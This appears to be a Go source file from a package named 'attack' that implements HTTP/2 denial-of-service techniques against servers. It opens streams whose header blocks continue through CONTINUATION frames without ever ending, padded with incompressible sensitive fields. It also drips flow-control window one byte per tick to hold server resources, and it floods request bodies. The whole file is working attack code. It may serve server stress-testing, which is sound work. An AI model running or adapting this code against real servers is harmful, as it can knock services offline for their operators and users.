package attack

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// begunWindow is what HTTP/2 lets each side send at first.
	begunWindow = 65535
	frameSize   = 16 << 10
)

// begin2 opens the streams of a client of HTTP/2. It returns the other side no more
// window than it has at first.
func begin2(c net.Conn, k Kind) error {
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&out, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	for i := range k.Streams {
		if err := k.writeHead(framer, id(i)); err != nil {
			return err
		}
	}
	_, err := c.Write(out.Bytes())
	return err
}

// id is that of a client's stream number i.
func id(i int) uint32 { return uint32(2*i + 1) }

// writeHead opens a stream, or begins to: then there is more to come for ever.
func (k Kind) writeHead(framer *http2.Framer, stream uint32) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	method := "GET"
	if k.Up {
		method = "POST"
	}
	fields := []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "attack"}, {Name: ":path", Value: k.path()},
	}
	for size := 0; size < k.Head; size += fieldSize {
		// Sensitive: not to be kept in a table and sent as one byte the next time.
		fields = append(fields, hpack.HeaderField{
			Name: fmt.Sprintf("x-%d", size), Value: string(bytes.Repeat([]byte("X"), fieldSize)), Sensitive: true,
		})
	}
	for _, f := range fields {
		if err := encoder.WriteField(f); err != nil {
			return err
		}
	}
	first := block.Next(frameSize)
	if err := framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: first, EndStream: !k.Up && k.Head == 0, EndHeaders: k.Head == 0,
	}); err != nil {
		return err
	}
	for block.Len() > 0 {
		if err := framer.WriteContinuation(stream, false, block.Next(frameSize)); err != nil {
			return err
		}
	}
	return nil
}

// client2 is an HTTP/2 connection that keeps the data it has received.
type client2 struct {
	conn net.Conn
	kind Kind
	held *Held

	mu sync.Mutex
	// changed is signalled when the window grows.
	changed *sync.Cond
	// window is the number of bytes that can be sent: on each stream, and under key 0 on all
	// together.
	window map[uint32]int64
	closed bool
}

// hold reads what concerns the connection, and of the bodies nothing: it takes them
// off the wire, and the other side may not send more of them than it could at first.
func (c *client2) hold(ctx context.Context) {
	c.changed = sync.NewCond(&c.mu)
	c.window = map[uint32]int64{0: begunWindow}
	for i := range c.kind.Streams {
		c.window[id(i)] = begunWindow
	}
	done := make(chan struct{})
	go func() { defer close(done); c.write(ctx) }()
	c.read()
	c.mu.Lock()
	c.closed = true
	c.changed.Broadcast()
	c.mu.Unlock()
	<-done
}

func (c *client2) read() {
	framer := http2.NewFramer(nil, c.conn)
	begun := int64(begunWindow)
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return
		}
		c.mu.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
				for i := range c.kind.Streams {
					c.window[id(i)] += int64(size) - begun
				}
				begun = int64(size)
			}
		case *http2.WindowUpdateFrame:
			c.window[f.StreamID] += int64(f.Increment)
		case *http2.RSTStreamFrame:
			delete(c.window, f.StreamID)
			c.held.Refused.Add(1)
		}
		c.changed.Broadcast()
		c.mu.Unlock()
	}
}

// write sends bodies as fast as the window allows, or grants the server one byte of window per
// tick.
func (c *client2) write(ctx context.Context) {
	framer := http2.NewFramer(c.conn, nil)
	switch {
	case c.kind.Up:
		piece := make([]byte, frameSize)
		for {
			stream, n := c.next()
			if n == 0 || framer.WriteData(stream, false, piece[:n]) != nil {
				return
			}
		}
	case c.kind.Drip:
		for tick := time.NewTicker(pace); ctx.Err() == nil; <-tick.C {
			if framer.WriteWindowUpdate(0, 1) != nil || framer.WriteWindowUpdate(id(0), 1) != nil {
				return
			}
		}
	}
}

// next waits until data can be sent and returns the stream and the number of bytes; 0 when the
// connection has ended.
func (c *client2) next() (stream uint32, n int64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for !c.closed {
		if c.window[0] > 0 {
			for stream, left := range c.window {
				if n := min(left, c.window[0], frameSize); stream != 0 && n > 0 {
					c.window[0] -= n
					c.window[stream] -= n
					return stream, n
				}
			}
		}
		c.changed.Wait()
	}
	return 0, 0
}
